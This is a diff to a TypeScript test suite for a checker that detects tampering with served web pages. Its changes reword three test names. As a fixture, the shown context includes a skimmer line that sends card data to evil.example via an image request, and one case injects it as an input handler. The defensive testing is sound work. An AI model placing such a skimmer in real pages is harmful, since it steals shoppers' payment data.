@@ -76,7 +76,7 @@ const without = (name: string) =>
 const SKIMMER = "new Image().src='https://evil.example/?'+card";
 
 describe('the check of what is served', () => {
-  test('finds nothing where all is as it was built, whatever the network on the way adds', async () => {
+  test('finds nothing where all is as it was built, although the network adds headers', async () => {
     expect(await check()).toEqual([]);
   });
 
@@ -103,7 +103,7 @@ describe('the check of what is served', () => {
       [{ fault: 'content_changed' }, { fault: 'script_added' }],
     ],
     [
-      'a handler in the markup, which is no element of its own',
+      'a handler in the markup, an attribute instead of an element',
       () => {
         served.html = HTML.replace('<input>', `<input oninput="${SKIMMER}">`);
       },
@@ -185,7 +185,7 @@ describe('the check of what is served', () => {
     expect(nowhere.map(({ fault }) => fault)).toEqual(['unreachable', 'unreachable', 'unreachable']);
   });
 
-  test('asks for the field as a merchant’s page does, when it is told which', async () => {
+  test('asks for the field as a merchant’s page does, when given that page', async () => {
     const as = { publishableKey: `pk_test_${'a'.repeat(26)}`, origin: 'https://shop.example' };
     served.headers = pageHeaders(page, as.origin);
     expect(await checkServed(send, url, INVENTORY, as)).toEqual([]);
